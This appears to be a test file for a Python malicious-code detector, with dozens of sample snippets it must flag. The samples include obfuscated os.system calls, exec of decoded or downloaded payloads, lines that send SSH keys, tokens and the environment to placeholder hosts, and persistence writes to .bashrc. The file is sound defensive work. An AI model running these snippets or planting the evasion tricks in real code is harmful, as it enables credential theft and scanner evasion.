import { describe, expect, test } from 'vitest';
import { readWith } from '../read.fixture.ts';
import { pythonFormat } from './format.ts';

const read = (code: string, limits = {}) => readWith(pythonFormat, new TextEncoder().encode(code), 'm.py', limits);
const effects = async (code: string) => (await read(code)).structure.effects;
/** `when kind callable` of each effect. */
const seen = async (code: string) =>
  (await effects(code)).map(({ when, kind, callable }) => `${when} ${kind} ${callable}`);

describe('a callable is followed', () => {
  test.each<[string, string]>([
    ['an import', 'import os\nos.system("x")'],
    ['an alias', 'import os as o\no.system("x")'],
    ['a from-import', 'from os import system as s\ns("x")'],
    ['a star import', 'from os import *\nsystem("x")'],
    ['an assignment', 'import os\na = os\nb = a.system\nb("x")'],
    ['an unpacking', 'import os\na, b = os.system, 1\na("x")'],
    ['a walrus', 'import os\n(f := os.system)("x")'],
    ['a branch', 'import os\nf = os.system\nif x:\n  f = print\nf("x")'],
    ['a conditional expression', 'import os\nf = os.system if x else print\nf("x")'],
    ['getattr', 'import os\ngetattr(os, "system")("x")'],
    ['getattr with joined text', 'import os\ngetattr(os, "".join(["sys", "tem"]))("x")'],
    ['getattr with formatted text', 'import os\ngetattr(os, "{}{}".format("sys", "tem"))("x")'],
    ['getattr with % formatting', 'import os\ngetattr(os, "%s%s" % ("sys", "tem"))("x")'],
    ['getattr with an f-string', 'import os\na = "sys"\ngetattr(os, f"{a}tem")("x")'],
    ['getattr with replaced text', 'import os\ngetattr(os, "s-y-s-tem".replace("-", ""))("x")'],
    ['getattr with reversed text', 'import os\ngetattr(os, "metsys"[::-1])("x")'],
    ['getattr with a slice of a longer text', 'import os\ngetattr(os, "xxsystemxx"[2:8])("x")'],
    ['__import__', '__import__("os").system("x")'],
    ['__import__ with bytes', '__import__(bytes([111, 115]).decode()).system("x")'],
    ['importlib', 'import importlib\nimportlib.import_module("os").system("x")'],
    ['pydoc', 'import pydoc\npydoc.locate("os.system")("x")'],
    ['pkgutil', 'import pkgutil\npkgutil.resolve_name("os:system")("x")'],
    ['the own loader', '__loader__.load_module("os").system("x")'],
    ['sys.modules', 'import sys\nsys.modules["os"].system("x")'],
    ['the dictionary of a module', 'import os\nos.__dict__["system"]("x")'],
    ['vars', 'import os\nvars(os)["system"]("x")'],
    ['a C alias', 'import posix\nposix.system("x")'],
    ['another module', 'import torch\ntorch.os.system("x")'],
    ['builtins', 'import builtins\nbuiltins.__import__("os").system("x")'],
    ['globals', 'import os\nglobals()["os"].system("x")'],
    ['a list', 'import os\n[print, os.system][1]("x")'],
    ['a dictionary', 'import os\n{"a": os.system}["a"]("x")'],
    ['a loop over callables', 'import os\nfor f in [os.system]:\n  f("x")'],
    ['functools.partial', 'import functools, os\nfunctools.partial(os.system, "x")()'],
    ['operator.attrgetter', 'import operator, os\noperator.attrgetter("system")(os)("x")'],
    ['operator.methodcaller', 'import operator, os\noperator.methodcaller("system", "x")(os)'],
    ['a function that returns it', 'import os\ndef f(): return os.system\nf()("x")'],
    ['an attribute of self', 'import os\nclass A:\n  def __init__(self):\n    self.f = os.system\n    self.f("x")'],
    ['a name in mathematical letters', 'import os\nos.𝐬ystem("x")'],
    ['a name split over lines', 'import os\n(os\n .system)("x")'],
  ])('through %s', async (_, code) => {
    expect((await effects(code)).map(({ callable }) => callable)).toContain('os.system');
  });

  test('passed on without a call', async () => {
    expect(await seen('import os\nlist(map(os.system, ["x"]))')).toEqual(['import process os.system']);
    expect(await seen('import os\nclass A:\n  def __reduce__(self):\n    return (os.system, ("x",))')).toEqual([
      'use process os.system',
    ]);
  });

  test('not where it is only named', async () => {
    expect(await seen('import subprocess\nisinstance(x, subprocess.Popen)')).toEqual([]);
    expect(await seen('"""os.system("x")"""\n# os.system("x")\nx = "os.system(1)"')).toEqual([]);
    expect(await seen('model.eval()\nself.run("x")\nre.compile("x")\nsystem = 1')).toEqual([]);
    expect(await seen('from .os import system\nsystem("x")')).toEqual([]);
    expect(await seen('def system(x):\n  return x\nsystem("x")')).toEqual([]);
  });
});

describe('when it runs', () => {
  test.each<[string, string, string]>([
    ['import', 'at module level', 'import os\nos.system("x")'],
    ['import', 'in the body of a class', 'import os\nclass A:\n  x = os.system("x")'],
    ['import', 'as a default', 'import os\ndef f(x=os.system("x")): pass'],
    ['import', 'in an annotation', 'import os\ndef f(x: os.system("x")): pass'],
    ['import', 'in a decorator', 'import os\n@os.system("x")\ndef f(): pass'],
    ['import', 'in a function called at module level', 'import os\ndef f():\n  g()\ndef g():\n  os.system("x")\nf()'],
    ['import', 'in a lambda handed on at module level', 'import os, t\nt.submit(lambda: os.system("x"))'],
    [
      'import',
      'in the constructor of an object made at module level',
      'import os\nclass A:\n  def __init__(self):\n    os.system("x")\nA()',
    ],
    ['import', 'in a decorator of this file', 'import os\ndef d(f):\n  os.system("x")\n  return f\n@d\nclass A: pass'],
    [
      'import',
      'when a subclass is made',
      'import os\nclass A:\n  def __init_subclass__(cls):\n    os.system("x")\nclass B(A): pass',
    ],
    ['use', 'in a constructor', 'import os\nclass A:\n  def __init__(self):\n    os.system("x")'],
    [
      'use',
      'in a method that forward calls',
      'import os\nclass A:\n  def forward(self):\n    self.f()\n  def f(self):\n    os.system("x")',
    ],
    [
      'use',
      'in a method of a base',
      'import os\nclass A:\n  def f(self):\n    os.system("x")\nclass B(A):\n  def forward(self):\n    self.f()',
    ],
    ['main', 'as a script', 'import os\nif __name__ == "__main__":\n  os.system("x")'],
    [
      'main',
      'as a script, through main',
      'import os\ndef main():\n  os.system("x")\nif __name__ == "__main__":\n  main()',
    ],
    ['call', 'in a function', 'import os\ndef f():\n  os.system("x")'],
    ['call', 'in a lambda', 'import os\nf = lambda: os.system("x")'],
  ])('%s: %s', async (when, _, code) => {
    expect((await effects(code)).map((effect) => effect.when)).toEqual([when]);
  });

  test('the other branch of the main guard runs on import', async () => {
    const code = 'import os\nif __name__ == "__main__":\n  pass\nelse:\n  os.system("x")';
    expect(await seen(code)).toEqual(['import process os.system']);
    expect(await seen('import os\nif __name__ != "__main__":\n  os.system("x")')).toEqual(['import process os.system']);
  });
});

describe('where values come from', () => {
  test.each<[string, string, string]>([
    ['decoded', 'base64', 'import base64\nexec(base64.b64decode("eA=="))'],
    ['decoded', 'characters from codes', 'exec("".join(map(chr, [120, 61, 49])))'],
    ['decoded', 'an exclusive or', 'exec("".join(chr(c ^ 1) for c in [121, 60, 48]))'],
    ['unpacked', 'base64 of something unknown', 'import base64\nexec(base64.b64decode(x))'],
    ['network', 'a server', 'import requests\nexec(requests.get("https://example.invalid").text)'],
    ['network', 'a server, by steps', 'import urllib.request as u\nr = u.urlopen("x")\nd = r.read().decode()\nexec(d)'],
    ['file', 'a file', 'exec(open("x").read())'],
    ['file', 'a file under with', 'with open("x") as f:\n  exec(f.read())'],
    [
      'credential',
      'a key',
      'import os, requests\nrequests.post("x", data=open(os.path.expanduser("~/.ssh/id_rsa")).read())',
    ],
    [
      'credential',
      'a token of the environment',
      'import os, requests\nrequests.post("x", json={"t": os.environ["HF_TOKEN"]})',
    ],
    [
      'environment',
      'the whole environment',
      'import os, requests\nrequests.get(f"https://example.invalid/?e={os.environ}")',
    ],
    ['environment', 'the environment as a dictionary', 'import os, requests\nrequests.post("x", json={**os.environ})'],
    ['environment', 'the environment', 'import os, requests\nrequests.post("x", json=dict(os.environ.items()))'],
  ])('%s: %s', async (from, _, code) => {
    const found = await effects(code);
    expect(found.flatMap((effect) => effect.from)).toContain(from);
  });
});

describe('what else acts', () => {
  test.each<[string, string]>([
    ['import patch torch.load', 'import torch\ntorch.load = lambda x: x'],
    ['import patch torch.load', 'import torch\ndef f(): pass\nsetattr(torch, "load", f)'],
    ['import patch builtins.open', 'import builtins\nbuiltins.open = 1'],
    ['import patch sys.modules[torch]', 'import sys\nsys.modules["torch"] = x'],
    ['import environment-set LD_PRELOAD', 'import os\nos.environ["LD_PRELOAD"] = "x"'],
    ['import environment-set PYTHONPATH', 'import os\nos.environ.update({"PYTHONPATH": "x"})'],
    ['import persistence open', 'import os\nopen(os.path.join(os.path.expanduser("~"), ".bashrc"), "a")'],
    [
      'import persistence pathlib.Path.write_text',
      'from pathlib import Path\n(Path.home() / ".config/autostart/x").write_text("x")',
    ],
    ['import write open', 'open("x", "w")'],
    ['import deserialise-weights torch.load', 'import torch\ntorch.load("x")'],
    ['import deserialise-weights numpy.load', 'import numpy as np\nnp.load("x", allow_pickle=True)'],
    ['import deserialise yaml.load', 'import yaml\nyaml.load(x, Loader=yaml.Loader)'],
    ['import native ctypes.CDLL', 'from ctypes import CDLL\nCDLL("x")'],
    [
      'import remote-code from_pretrained',
      'from transformers import AutoModel\nAutoModel.from_pretrained("a/b", trust_remote_code=True)',
    ],
    ['import evaluate exec', '__builtins__["exec"]("x")'],
    [
      'import evaluate pyarmor_runtime_0.__pyarmor__',
      'from pyarmor_runtime_0 import __pyarmor__\n__pyarmor__(__name__, __file__, b"x")',
    ],
    ['import remote-code torch.hub.load', 'import torch\ntorch.hub.load("a/b", "c")'],
    ['import evaluate exec', 'exec "x"'],
  ])('%s', async (effect, code) => {
    expect(await seen(code)).toContain(effect);
  });

  test('safe forms of loaders, settings and variables are none', async () => {
    const code = `
import os, torch, yaml, numpy as np
torch.load("x", weights_only=True)
np.load("x")
yaml.load(x, Loader=yaml.SafeLoader)
torch.backends.cudnn.benchmark = True
os.environ["TOKENIZERS_PARALLELISM"] = "false"
os.environ.get("MAX_NEW_TOKENS")
open("x")
`;
    expect(await seen(code)).toEqual([]);
  });
});

test('what runs as code is handed out to be read as code', async () => {
  const { parts } = await read('import base64\nexec(base64.b64decode("cHJpbnQoMSk="))');
  const [part] = parts;
  expect(part?.name).toBe('run at line 2.py');
  expect(new TextDecoder().decode(await part?.source.read(0, part.source.size))).toBe('print(1)');
});

test('offsets are in bytes, lines from 1', async () => {
  const code = 'é = "ü"\nimport os\nos.system("x")\n';
  const [effect] = await effects(code);
  expect(effect?.line).toBe(3);
  expect(effect?.offset).toBe(new TextEncoder().encode(code.slice(0, code.indexOf('os.system'))).length);
});
